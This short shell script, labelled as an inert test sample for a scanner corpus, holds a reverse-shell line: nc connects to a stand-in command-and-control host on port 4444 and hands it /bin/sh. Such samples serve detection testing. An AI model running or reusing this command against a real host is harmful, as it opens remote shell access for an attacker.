# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
HOST=c2.example.invalid
nc "$HOST" 4444 -e /bin/sh
